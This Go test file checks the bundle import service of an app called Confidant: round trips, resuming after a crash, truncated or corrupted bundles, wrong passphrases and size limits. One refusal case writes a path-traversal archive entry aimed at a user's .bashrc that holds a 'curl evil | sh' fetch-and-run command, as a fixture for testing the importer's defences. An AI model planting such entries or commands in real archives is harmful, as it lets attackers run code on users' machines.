package imports_test

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"filippo.io/age"
	"github.com/google/uuid"

	"confidant/inference"
	"confidant/inference/simbackend"
	"confidant/internal/testdb"
	"confidant/portability/bundle"
	"confidant/portability/exporter"
	"confidant/portability/importer"
	"confidant/portability/imports"
	"confidant/rag"
	"confidant/store"
)

const testPassphrase = "correct horse battery staple"

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// newBundleHarness is a harness whose imports read bundles: memories and
// passages are embedded by the simulated backend over HTTP, originals are
// ingested again by the documents service.
func newBundleHarness(t *testing.T, limits bundle.Limits) *harness {
	t.Helper()
	t.Parallel()
	pool := testdb.New(t)
	kr, reg := testdb.Keys(t)
	st := store.New(pool, kr, reg)
	embedder := simEmbedderClient(t)
	docs, err := rag.NewService(pool, st, embedder, rag.Options{PollInterval: 50 * time.Millisecond, RetryDelay: 100 * time.Millisecond})
	must(t, err)
	ctx, cancel := context.WithCancel(context.Background())
	must(t, docs.Start(ctx))
	svc, err := imports.New(pool, st, imports.Options{PollInterval: 50 * time.Millisecond, RetryDelay: 100 * time.Millisecond,
		Bundles: &imports.Bundles{Store: st, Embedder: embedder, Documents: docs, Limits: limits}})
	must(t, err)
	must(t, svc.Start(ctx))
	t.Cleanup(func() {
		stop, done := context.WithTimeout(context.Background(), 10*time.Second)
		defer done()
		_ = svc.Stop(stop)
		_ = docs.Stop(stop)
		cancel()
	})
	return &harness{svc: svc, st: st, pool: pool, user: newUser(t, st, "importer")}
}

// simEmbedderClient is the inference client talking to the simulated
// backend over HTTP, as the app does.
func simEmbedderClient(t *testing.T) *inference.Client {
	t.Helper()
	srv := httptest.NewServer(simbackend.New(simbackend.Options{}))
	t.Cleanup(srv.Close)
	c, err := inference.New(inference.Config{BaseURL: srv.URL})
	must(t, err)
	return c
}

func v7(t *testing.T) uuid.UUID {
	id, err := uuid.NewV7()
	must(t, err)
	return id
}

// source is what an exported account held, to compare the import with.
type source struct {
	user                uuid.UUID
	conv                uuid.UUID
	question, a1, a2    uuid.UUID
	memoryText, docText string
}

// buildSource writes an account with a branched chat, a verdict, a
// memory given to an answer, a collection, an ingested document, a
// document still queued with its original, settings and an API key.
func buildSource(t *testing.T, st *store.Store) source {
	t.Helper()
	ctx := context.Background()
	at := time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)
	s := source{user: newUser(t, st, "exporter"), memoryText: "Prefers night trains to Vienna", docText: "The lighthouse keeper logs every ship"}
	conv := store.Conversation{ID: v7(t), UserID: s.user, Title: "Trains ✈ Europe", Model: "sim-chat", Pinned: true, CreatedAt: at, UpdatedAt: at.Add(time.Hour)}
	must(t, st.CreateConversation(ctx, conv))
	s.conv = conv.ID
	add := func(parent *uuid.UUID, role, content, status string) uuid.UUID {
		m := store.Message{ID: v7(t), ConversationID: conv.ID, UserID: s.user, ParentID: parent, Role: role, Content: content, Status: status, CreatedAt: at, UpdatedAt: at}
		if role == store.RoleAssistant {
			m.Model = "sim-chat"
		}
		must(t, st.AddMessage(ctx, m))
		return m.ID
	}
	s.question = add(nil, store.RoleUser, "Which night train goes to Vienna?", store.StatusComplete)
	s.a1 = add(&s.question, store.RoleAssistant, "The Nightjet from Zürich.", store.StatusComplete)
	s.a2 = add(&s.question, store.RoleAssistant, "Try the Nightjet.", store.StatusStopped)
	must(t, st.SaveAnswerVerification(ctx, s.user, s.a1, store.AnswerVerification{State: store.VerificationAmber, Reason: "simulated backend",
		Backend: "sim", SigningAddress: "0xabc", SigningAlgo: "ecdsa", Signature: "0xsig", Text: "aa:bb", CheckedAt: at, ReportVerifiedAt: at, Simulated: true}))
	mem := store.Memory{ID: uuid.New(), UserID: s.user, Text: s.memoryText, Kind: store.MemoryExplicit, SourceConversationID: &conv.ID, CreatedAt: at, UpdatedAt: at}
	must(t, st.CreateMemory(ctx, mem, simbackend.Embed(mem.Text)))
	must(t, st.LinkMessageMemories(ctx, s.user, s.a1, []uuid.UUID{mem.ID}))
	coll := store.Collection{ID: v7(t), UserID: s.user, Name: "Coast", CreatedAt: at}
	must(t, st.CreateCollection(ctx, coll))
	ingested := store.Document{ID: v7(t), UserID: s.user, Name: "log.md", Kind: "markdown", Size: 40, CollectionID: &coll.ID, CreatedAt: at, UpdatedAt: at}
	must(t, st.CreateImportedDocument(ctx, ingested, []store.NewChunk{
		{ID: v7(t), Ordinal: 0, Heading: "Log", Text: s.docText, Embedding: simbackend.Embed(s.docText)},
		{ID: v7(t), Ordinal: 1, Heading: "Log", Text: "and the weather at dawn", Embedding: simbackend.Embed("weather")},
	}, at))
	queued := store.NewDocument{Document: store.Document{ID: v7(t), Name: "notes.md", Kind: "markdown"}, Content: []byte("# Notes\n\nThe ferry to Capri leaves at nine.\n")}
	must(t, st.CreateIngestJob(ctx, s.user, v7(t), []store.NewDocument{queued}, at, nil))
	must(t, st.SetInstructions(ctx, s.user, "Answer in French.", at))
	must(t, st.CreateAPIKey(ctx, store.APIKey{ID: uuid.New(), UserID: s.user, Name: "laptop", TokenHash: []byte("hash"), Scopes: []string{"chat"}, CreatedAt: at}))
	return s
}

func exportBundle(t *testing.T, st *store.Store, user uuid.UUID) []byte {
	t.Helper()
	rcpt, err := bundle.PassphraseRecipient(testPassphrase, 10)
	must(t, err)
	var buf bytes.Buffer
	ex := &exporter.Exporter{Store: st, Source: bundle.Source{Origin: "https://a.example", Version: "test", Commit: "test"}}
	must(t, ex.ExportEncrypted(context.Background(), user, &buf, rcpt, exporter.Options{}))
	return buf.Bytes()
}

func (h *harness) submitBundle(t *testing.T, data []byte, passphrase string) store.Import {
	t.Helper()
	imp, err := h.svc.Submit(context.Background(), h.user, bytes.NewReader(data), passphrase)
	must(t, err)
	return h.wait(t, imp.ID)
}

func TestImportBundleRoundTrip(t *testing.T) {
	h := newBundleHarness(t, bundle.Limits{})
	ctx := context.Background()
	src := buildSource(t, h.st)
	data := exportBundle(t, h.st, src.user)

	imp := h.submitBundle(t, data, testPassphrase)
	want := store.ImportCounts{Conversations: 1, Messages: 3, Memories: 1, Collections: 1, Documents: 2, Settings: 1, CredentialsSkipped: 1}
	if imp.State != store.ImportDone || imp.Format != "confidant" || imp.Counts != want {
		t.Fatalf("import = %+v\nwant counts %+v", imp, want)
	}

	// Conversations and branches, verdicts, the memory given to the answer.
	page, err := h.st.ListConversations(ctx, h.user, false, "", 10)
	must(t, err)
	if len(page.Items) != 1 || page.Items[0].Title != "Trains ✈ Europe" || !page.Items[0].Pinned || page.Items[0].ID == src.conv {
		t.Fatalf("conversations = %+v", page.Items)
	}
	conv := page.Items[0]
	msgs, err := h.st.Messages(ctx, h.user, conv.ID)
	must(t, err)
	if len(msgs) != 3 || msgs[1].ParentID == nil || msgs[2].ParentID == nil || *msgs[1].ParentID != msgs[0].ID || *msgs[2].ParentID != msgs[0].ID {
		t.Fatalf("messages = %+v", msgs)
	}
	if msgs[1].Content != "The Nightjet from Zürich." || msgs[2].Status != store.StatusStopped {
		t.Errorf("answers = %q %s, %q %s", msgs[1].Content, msgs[1].Status, msgs[2].Content, msgs[2].Status)
	}
	v, err := h.st.AnswerVerification(ctx, h.user, msgs[1].ID)
	if err != nil || v.State != store.VerificationAmber || v.Signature != "0xsig" {
		t.Errorf("verdict = %+v, %v", v, err)
	}
	given, err := h.st.MessageMemories(ctx, h.user, []uuid.UUID{msgs[1].ID})
	must(t, err)
	if len(given[msgs[1].ID]) != 1 || given[msgs[1].ID][0].Text != src.memoryText {
		t.Errorf("memories given to the answer = %+v", given)
	}
	// The memory was embedded again here: it is found by meaning.
	near, err := h.st.NearestMemories(ctx, h.user, simbackend.Embed(src.memoryText), 1)
	must(t, err)
	if len(near) != 1 || near[0].Similarity < 0.99 || near[0].Memory.SourceConversationID == nil || *near[0].Memory.SourceConversationID != conv.ID {
		t.Errorf("nearest memory = %+v", near)
	}

	// Collections and documents: the ingested one's passages are searchable,
	// the queued one is ingested again by this deployment.
	colls, err := h.st.Collections(ctx, h.user)
	must(t, err)
	if len(colls) != 1 || colls[0].Name != "Coast" {
		t.Fatalf("collections = %+v", colls)
	}
	hits, err := h.st.SearchChunkVectors(ctx, h.user, simbackend.Embed(src.docText), store.VectorSearch{K: 1})
	must(t, err)
	if len(hits) != 1 {
		t.Fatalf("vector search found %d passages", len(hits))
	}
	deadline := time.Now().Add(30 * time.Second)
	for {
		docs, err := h.st.ListDocuments(ctx, h.user, "", 10)
		must(t, err)
		ready, inCollection := 0, 0
		for _, d := range docs.Items {
			if d.Status == store.DocumentReady {
				ready++
			}
			if d.CollectionID != nil && *d.CollectionID == colls[0].ID {
				inCollection++
			}
		}
		if len(docs.Items) == 2 && ready == 2 && inCollection == 1 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("documents = %+v", docs.Items)
		}
		time.Sleep(100 * time.Millisecond)
	}
	instructions, err := h.st.Instructions(ctx, h.user)
	if err != nil || instructions != "Answer in French." {
		t.Errorf("instructions = %q, %v", instructions, err)
	}
	var keys int
	must(t, h.pool.QueryRow(ctx, `SELECT count(*) FROM api_keys WHERE user_id = $1`, h.user).Scan(&keys))
	if keys != 0 {
		t.Errorf("%d API keys recreated", keys)
	}

	// Again: nothing is added.
	before := h.rowCounts(t)
	again := h.submitBundle(t, data, testPassphrase)
	want = store.ImportCounts{ConversationsSkipped: 1, MessagesSkipped: 3, MemoriesSkipped: 1, CollectionsSkipped: 1, DocumentsSkipped: 2, Settings: 1, CredentialsSkipped: 1}
	if again.State != store.ImportDone || again.Counts != want {
		t.Fatalf("second import = %+v\nwant counts %+v", again, want)
	}
	if got := h.rowCounts(t); got != before {
		t.Errorf("rows after the second import = %v, want %v", got, before)
	}
}

// TestImportBundlePlainStream imports the plain tar stream fork-to-fork
// transfer carries (no age layer) through Service.ImportBundle.
func TestImportBundlePlainStream(t *testing.T) {
	h := newBundleHarness(t, bundle.Limits{})
	ctx := context.Background()
	src := buildSource(t, h.st)
	ex := &exporter.Exporter{Store: h.st, Source: bundle.Source{Origin: "https://a.example"}}
	m, err := ex.Manifest(ctx, src.user, exporter.Options{})
	must(t, err)
	var buf bytes.Buffer
	w, err := bundle.NewWriter(&buf, m)
	must(t, err)
	must(t, ex.Export(ctx, src.user, w, exporter.Options{}))
	must(t, w.Close())
	counts, err := h.svc.ImportBundle(ctx, h.user, bytes.NewReader(buf.Bytes()), imports.BundleSource{})
	must(t, err)
	if counts.Conversations != 1 || counts.Messages != 3 || counts.Memories != 1 || counts.Documents != 2 {
		t.Fatalf("counts = %+v", counts)
	}
	// Cut short, it is refused whole.
	other := newUser(t, h.st, "second")
	if _, err := h.svc.ImportBundle(ctx, other, bytes.NewReader(buf.Bytes()[:buf.Len()-2000]), imports.BundleSource{}); !errors.Is(err, importer.ErrMalformed) {
		t.Fatalf("truncated stream: %v", err)
	}
	var n int
	must(t, h.pool.QueryRow(ctx, `SELECT count(*) FROM conversations WHERE user_id = $1`, other).Scan(&n))
	if n != 0 {
		t.Errorf("a truncated stream wrote %d conversations", n)
	}
	// The streams were kept sealed while they were read, and dropped after.
	if h.blobs(t) != 0 {
		t.Error("a transferred bundle was kept after its import")
	}
	must(t, h.pool.QueryRow(ctx, `SELECT count(*) FROM imports WHERE user_id = $1 AND state = 'failed' AND error_code = 'malformed'`, other).Scan(&n))
	if n != 1 {
		t.Errorf("%d failed imports recorded for the truncated stream, want 1", n)
	}
}

// TestImportBundleResume cuts a bundle import off after its messages are
// written, as a crash would; running it again completes it and writes
// nothing twice.
func TestImportBundleResume(t *testing.T) {
	h := newBundleHarness(t, bundle.Limits{})
	ctx := context.Background()
	src := buildSource(t, h.st)
	data := exportBundle(t, h.st, src.user)
	embedder := simEmbedderClient(t)
	crash := &imports.Bundles{Store: h.st, Embedder: embedder, AfterFlush: func(k bundle.Kind) error {
		if k == bundle.KindMessage {
			return errors.New("killed")
		}
		return nil
	}}
	if _, err := crash.Import(ctx, h.user, data, imports.BundleSource{Passphrase: testPassphrase}); err == nil {
		t.Fatal("the import was not cut off")
	}
	if got := h.rowCounts(t); got[0] != 1 || got[1] != 3 {
		t.Fatalf("rows after the cut = %v", got)
	}
	counts, err := (&imports.Bundles{Store: h.st, Embedder: embedder}).Import(ctx, h.user, data, imports.BundleSource{Passphrase: testPassphrase})
	must(t, err)
	want := store.ImportCounts{ConversationsSkipped: 1, MessagesSkipped: 3, Memories: 1, Collections: 1, Documents: 1, DocumentsSkipped: 1, Settings: 1, CredentialsSkipped: 1}
	if counts != want {
		t.Fatalf("resumed counts = %+v\nwant %+v", counts, want)
	}
	var convs, msgs, mems int
	must(t, h.pool.QueryRow(ctx, `SELECT (SELECT count(*) FROM conversations WHERE user_id = $1), (SELECT count(*) FROM messages WHERE user_id = $1),
		(SELECT count(*) FROM memories WHERE user_id = $1)`, h.user).Scan(&convs, &msgs, &mems))
	if convs != 1 || msgs != 3 || mems != 1 {
		t.Errorf("after resuming: %d conversations, %d messages, %d memories", convs, msgs, mems)
	}
	// The answer still shows the memory it was given, though the links are
	// written after the messages the cut-off import had written.
	var answer uuid.UUID
	must(t, h.pool.QueryRow(ctx, `SELECT id FROM messages WHERE user_id = $1 AND role = 'assistant' AND status = 'complete'`, h.user).Scan(&answer))
	given, err := h.st.MessageMemories(ctx, h.user, []uuid.UUID{answer})
	must(t, err)
	if len(given[answer]) != 1 {
		t.Errorf("the answer was given %d memories after resuming, want 1", len(given[answer]))
	}
	if v, err := h.st.AnswerVerification(ctx, h.user, answer); err != nil || v.Signature != "0xsig" {
		t.Errorf("verdict after resuming = %+v, %v", v, err)
	}
}

// bundleManifest is a valid manifest.json.
func bundleManifest() []byte {
	return []byte(`{"format":"confidant-bundle","version":1,"created_at":"2026-11-27T00:00:00Z","source":{},"user":{"id":"` + uuid.NewString() + `"}}`)
}

// tarOf builds a tar stream of (name, content) entries.
func tarOf(t *testing.T, entries ...[2]string) []byte {
	t.Helper()
	var plain bytes.Buffer
	tw := tar.NewWriter(&plain)
	for _, e := range entries {
		must(t, tw.WriteHeader(&tar.Header{Name: e[0], Mode: 0o600, Size: int64(len(e[1])), Typeflag: tar.TypeReg}))
		_, err := tw.Write([]byte(e[1]))
		must(t, err)
	}
	must(t, tw.Close())
	return plain.Bytes()
}

func encrypt(t *testing.T, plain []byte) []byte {
	t.Helper()
	rcpt, err := age.NewScryptRecipient(testPassphrase)
	must(t, err)
	rcpt.SetWorkFactor(10)
	var out bytes.Buffer
	w, err := age.Encrypt(&out, rcpt)
	must(t, err)
	_, err = w.Write(plain)
	must(t, err)
	must(t, w.Close())
	return out.Bytes()
}

func TestImportBundleRefusals(t *testing.T) {
	h := newBundleHarness(t, bundle.Limits{MaxRecordBytes: 1 << 20})
	src := buildSource(t, h.st)
	data := exportBundle(t, h.st, src.user)
	corrupt := bytes.Clone(data)
	corrupt[len(corrupt)/2] ^= 0x40
	tests := []struct {
		name       string
		data       []byte
		passphrase string
		code       string
		says       string
	}{
		{"wrong passphrase", data, "not the passphrase at all", "wrong_passphrase", "passphrase does not open"},
		{"truncated", data[:len(data)-300], testPassphrase, "malformed", "ends too early"},
		{"corrupted", corrupt, testPassphrase, "malformed", "damaged"},
		{"path traversal", encrypt(t, tarOf(t, [2]string{"manifest.json", string(bundleManifest())}, [2]string{"../../home/user/.bashrc", "curl evil | sh\n"})),
			testPassphrase, "unsafe_archive", "unsafe"},
		{"no checksums trailer", encrypt(t, tarOf(t, [2]string{"manifest.json", string(bundleManifest())})), testPassphrase, "malformed", "ends too early"},
		{"not a bundle inside", encrypt(t, tarOf(t, [2]string{"notes.txt", "hello"})), testPassphrase, "unknown_format", "not a Confidant bundle"},
	}
	for _, tt := range tests {
		imp := h.submitBundle(t, tt.data, tt.passphrase)
		if imp.State != store.ImportFailed || imp.ErrorCode != tt.code || !strings.Contains(imp.Error, tt.says) {
			t.Errorf("%s: import = %s %s %q", tt.name, imp.State, imp.ErrorCode, imp.Error)
		}
	}
	if got := h.rowCounts(t); got != [3]int{} {
		t.Errorf("refused bundles wrote rows: %v", got)
	}
	var n int
	must(t, h.pool.QueryRow(context.Background(), `SELECT count(*) FROM memories WHERE user_id = $1`, h.user).Scan(&n))
	if n != 0 {
		t.Errorf("refused bundles wrote %d memories", n)
	}
}

// TestImportBundleTooLarge: a record over the reader's limit.
func TestImportBundleTooLarge(t *testing.T) {
	h := newBundleHarness(t, bundle.Limits{MaxPartBytes: 256})
	src := buildSource(t, h.st)
	imp := h.submitBundle(t, exportBundle(t, h.st, src.user), testPassphrase)
	if imp.State != store.ImportFailed || imp.ErrorCode != "too_large" {
		t.Fatalf("import = %s %s %q", imp.State, imp.ErrorCode, imp.Error)
	}
	if got := h.rowCounts(t); got != [3]int{} {
		t.Errorf("rows = %v", got)
	}
}
